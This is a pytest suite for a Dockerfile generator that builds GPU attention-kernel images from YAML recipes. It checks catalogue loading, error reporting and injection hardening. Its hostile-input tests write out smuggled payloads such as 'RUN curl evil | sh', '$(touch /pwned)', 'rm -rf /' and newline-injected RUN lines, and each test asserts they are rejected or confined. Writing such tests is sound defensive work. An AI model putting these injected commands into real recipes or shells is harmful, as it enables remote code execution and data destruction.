"""The recipe catalogue: built-ins load, broken files fail with file/key/problem, hostile values never
reach the Dockerfile as instructions."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import dockerfile
import pytest

from imagegen.arch import parse_arch_list
from imagegen.errors import RecipeError, UnsafeValueError
from imagegen.plan import make_cell
from imagegen.recipes import load_catalogue, load_recipe_file, recipe_from_source_tree
from imagegen.render import render_dockerfile

BUILTINS = {"sageattention", "flash-attn", "flash-attn-3", "block-sparse-attn", "causal-conv1d", "mamba-ssm",
            "xformers", "natten"}

GOOD = textwrap.dedent("""\
    schema: 1
    name: demo
    aliases: [dm]
    description: "a demo"
    source:
      git: https://github.com/example/demo.git
    versions:
      "1.0":
        ref: v1.0
        commit: 0123456789abcdef0123456789abcdef01234567
        archs: ["8.0", "9.0"]
    arch:
      env: DEMO_ARCHS
      style: numeric
      ptx: none
    build:
      force_env: {DEMO_FORCE_BUILD: "TRUE"}
      env: {DEMO_FLAG: "1"}
    smoke:
      imports: [demo]
    obsolete_patches:
      - name: "old patch"
        reason: "fixed upstream"
    """)


def write(tmp_path: Path, text: str, name: str = "demo.yaml") -> Path:
    p = tmp_path / name
    p.write_text(text)
    return p


def test_builtin_catalogue_has_every_recipe_the_issue_names():
    cat = load_catalogue()
    assert BUILTINS <= set(cat.recipes)
    assert cat.get("sage").name == "sageattention"
    for r in cat.recipes.values():
        assert r.smoke.imports and r.versions
        for v in r.versions.values():
            assert v.commit and len(v.commit) == 40, f"{r.name} {v.version} must be pinned by full commit"


def test_sage_recipe_facts():
    sage = load_catalogue().get("sage")
    v = sage.version(None)
    assert v.ref == "v2.2.0" and v.arch.env == "TORCH_CUDA_ARCH_LIST" and v.arch.parser == "package"
    main = sage.version("main")
    assert "12.1" in [a.cc for a in main.archs] and "10.0" in [a.cc for a in main.archs]
    # The seed's sm_120 patch is obsolete for >= v2.2.0 and the recipe says so.
    assert any("obsolete for >= v2.2.0" in o["reason"] for o in sage.obsolete_patches)
    # EXT_PARALLEL is sized from the job budget (not pinned), and v2.2.0 carries upstream's sm90 fix.
    assert (sage.ext_parallel_env, sage.ext_parallel_max) == ("EXT_PARALLEL", 4) and "EXT_PARALLEL" not in sage.env
    assert [p.name for p in sage.version("2.2.0").patches] == ["sageattention-2.2.0-sm90-fake-name.patch"]
    assert not sage.version("main").patches  # main has the fix (d970424)


def test_user_recipe_dir_adds_and_overrides(tmp_path):
    write(tmp_path, GOOD)
    cat = load_catalogue((tmp_path,))
    assert cat.get("dm").name == "demo" and "sageattention" in cat.recipes


def test_unknown_recipe_is_one_line_with_the_known_names():
    with pytest.raises(RecipeError) as err:
        load_catalogue().get("sagee")
    assert "unknown recipe 'sagee'" in str(err.value) and "sageattention" in str(err.value)


@pytest.mark.parametrize("mutation, where", [
    (lambda t: t.replace("style: numeric", "style: weird"), "arch.style"),
    (lambda t: t.replace('archs: ["8.0", "9.0"]', 'archs: ["8.0", "4.2"]'), "versions.1.0.archs"),
    (lambda t: t.replace("name: demo", "name: Demo Bad"), "name"),
    (lambda t: t.replace("  imports: [demo]", "  imports: []"), "smoke.imports"),
    (lambda t: t.replace("schema: 1", "schema: 9"), "schema"),
    (lambda t: t + "bogus: 1\n", "bogus"),
    (lambda t: t.replace("  git: https://github.com/example/demo.git", "  path: ."
                         "\n  git: https://github.com/example/demo.git"), "source"),
    (lambda t: t.replace("ref: v1.0", "ref: [1, 2]"), "versions.1.0.ref"),
])
def test_broken_recipe_names_file_and_key(tmp_path, mutation, where):
    p = write(tmp_path, mutation(GOOD))
    with pytest.raises(RecipeError) as err:
        load_recipe_file(p)
    msg = str(err.value)
    assert msg.startswith(str(p) + ": ") and f": {where}" in msg and "\n" not in msg


def test_invalid_yaml_names_the_line(tmp_path):
    p = write(tmp_path, "name: [unclosed\n")
    with pytest.raises(RecipeError, match=r"demo.yaml: line \d+: not valid YAML"):
        load_recipe_file(p)


HOSTILE_FIELDS = [
    # (what, replacement)
    ("env value with newline", lambda t: t.replace('DEMO_FLAG: "1"', 'DEMO_FLAG: "1\\nRUN curl evil | sh"')),
    ("env value with command substitution", lambda t: t.replace('DEMO_FLAG: "1"', 'DEMO_FLAG: "$(touch /pwned)"')),
    ("env value with backtick", lambda t: t.replace('DEMO_FLAG: "1"', 'DEMO_FLAG: "`id`"')),
    ("env name with space", lambda t: t.replace("DEMO_FLAG:", '"DEMO FLAG; rm -rf /":')),
    ("ref with shell", lambda t: t.replace("ref: v1.0", 'ref: "v1.0; rm -rf /"')),
    ("git url with quote", lambda t: t.replace("https://github.com/example/demo.git", "'https://x/\"; id; \"'")),
    ("commit with newline", lambda t: t.replace("0123456789abcdef0123456789abcdef01234567", '"0123456\\nRUN id"')),
    ("module with code", lambda t: t.replace("imports: [demo]", 'imports: ["os; import os; os.system(1)"]')),
    ("system package with option", lambda t: t.replace("build:\n", "build:\n  system_requires: ['--allow-unauthenticated evil']\n")),
    ("requirement with url", lambda t: t.replace("build:\n", "build:\n  requires: ['evil @ https://x/$(id).whl']\n")),
]


@pytest.mark.parametrize("what, mutate", HOSTILE_FIELDS, ids=[h[0] for h in HOSTILE_FIELDS])
def test_hostile_values_are_refused_at_load(tmp_path, what, mutate):
    p = write(tmp_path, mutate(GOOD))
    with pytest.raises(RecipeError):
        load_recipe_file(p)


def _render(recipe) -> str:
    cell = make_cell(recipe, recipe.version(None), "2.8", "12.8", "3.12", parse_arch_list("9.0"), "cuda")
    assert cell.buildable, cell.problems
    return render_dockerfile(cell).dockerfile


def test_hostile_free_text_stays_inside_comments(tmp_path):
    evil = GOOD.replace('reason: "fixed upstream"', 'reason: "fine\\nRUN curl evil | sh\\r\\nUSER root\\u2028ENV X=1"')
    evil = evil.replace('description: "a demo"', 'description: "x\\nRUN id"')
    text = _render(load_recipe_file(write(tmp_path, evil)))
    cmds = dockerfile.parse_string(text)
    assert all(c.cmd.upper() != "USER" for c in cmds)
    assert not any(c.cmd.upper() == "RUN" and "evil" in " ".join(c.value) for c in cmds)
    assert sum(1 for c in cmds if c.cmd.upper() == "ENV") == 3  # the template's three ENV instructions only


def test_values_reach_the_build_only_as_json(tmp_path):
    text = _render(load_recipe_file(write(tmp_path, GOOD)))
    cmds = dockerfile.parse_string(text)
    doc = json.loads([c for c in cmds if c.heredocs][1].heredocs[0].content)
    assert doc["env"] == {"DEMO_FLAG": "1"} and doc["force_env"] == {"DEMO_FORCE_BUILD": "TRUE"}
    # No recipe value appears in a RUN instruction.
    for c in cmds:
        if c.cmd.upper() == "RUN":
            assert "DEMO" not in " ".join(c.value)


def test_patch_text_with_a_delimiter_line_cannot_end_the_heredoc(tmp_path):
    (tmp_path / "patches").mkdir()
    (tmp_path / "patches" / "x.patch").write_text("IMAGEGEN_CELL_JSON\nRUN id\nIMAGEGEN_BUILD_PY\n")
    text = GOOD.replace('    archs: ["8.0", "9.0"]', '    archs: ["8.0", "9.0"]\n    patches: [{file: x.patch, reason: test}]')
    assert text != GOOD
    out = _render(load_recipe_file(write(tmp_path, text)))
    cmds = dockerfile.parse_string(out)
    assert not any(c.cmd.upper() == "RUN" and c.value == ("id",) for c in cmds)
    doc = json.loads([c for c in cmds if c.heredocs][1].heredocs[0].content)
    assert doc["patches"][0]["text"].startswith("IMAGEGEN_CELL_JSON\n")


def test_hostile_base_image_is_refused():
    recipe = load_catalogue().get("sage")
    with pytest.raises(UnsafeValueError) as err:
        make_cell(recipe, recipe.version(None), "2.8", "12.8", "3.12", parse_arch_list("9.0"), "cuda",
                  base_image="ubuntu:22.04\nRUN id")
    assert "\n" not in str(err.value) and "--base-image" in str(err.value)


def test_local_source_tree_becomes_a_recipe():
    fixture = Path(__file__).parent / "fixtures" / "tiny_kernel"
    r = recipe_from_source_tree(fixture)
    assert r.name == "tiny-kernel" and r.default_version == "0.1.0" and r.source_kind == "local"
    assert r.smoke.imports == ("tiny_kernel",)
    assert r.version(None).arch.env == "TORCH_CUDA_ARCH_LIST"


def test_local_source_tree_errors(tmp_path):
    with pytest.raises(RecipeError, match="not a directory"):
        recipe_from_source_tree(tmp_path / "nope")
    with pytest.raises(RecipeError, match="no setup.py or pyproject.toml"):
        recipe_from_source_tree(tmp_path)


def test_unsafe_value_error_is_typed():
    from imagegen import safety

    with pytest.raises(UnsafeValueError):
        safety.check("a\nb", safety.IMAGE_REF, "image")
